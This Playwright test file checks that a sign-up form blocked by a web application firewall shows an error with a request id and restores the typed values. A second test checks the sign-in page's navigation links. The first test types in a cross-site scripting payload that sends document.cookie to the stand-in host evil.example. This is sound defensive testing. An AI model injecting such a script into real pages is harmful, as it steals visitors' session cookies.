import { expect, test } from "@playwright/test";

test("a sign-up the firewall refuses says so, with the request id, and leads back to the form", async ({ page }) => {
  await page.goto("/signup");
  await page.getByLabel("Name").fill("<script>document.location='http://evil.example/?c='+document.cookie</script>");
  const email = `blocked-${Date.now().toString(36)}@example.org`;
  await page.getByLabel("Email").fill(email);
  await page.getByLabel("Password").fill("a-long-enough-password");
  await page.getByRole("button", { name: "Create account" }).click();

  const alert = page.locator(".state-error");
  await expect(alert).toContainText("The form could not be sent");
  await expect(alert).toContainText("web application firewall");
  await expect(alert).toContainText(/request id [A-Za-z0-9._-]{8,}/);
  // The page around the form still works (no blank error page).
  await expect(page.getByRole("navigation").first()).toBeVisible();
  await page.getByRole("button", { name: "Back to the form" }).click();
  await expect(page.getByRole("button", { name: "Create account" })).toBeVisible();
  // What was typed comes back (the password does not).
  await expect(page.getByLabel("Email")).toHaveValue(email);
  await expect(page.getByLabel("Name")).toHaveValue(/^<script>/);
  await expect(page.getByLabel("Password")).toHaveValue("");
});

test("the sign-in page offers the public catalogue, not app pages a visitor cannot open", async ({ page }) => {
  await page.goto("/signin");
  const nav = page.getByRole("navigation", { name: "Main" });
  await expect(nav.getByRole("link", { name: "Explore" })).toBeVisible();
  await expect(nav.getByRole("link", { name: "Dashboard" })).toHaveCount(0);
  await expect(nav.getByRole("link", { name: "API keys" })).toHaveCount(0);
});
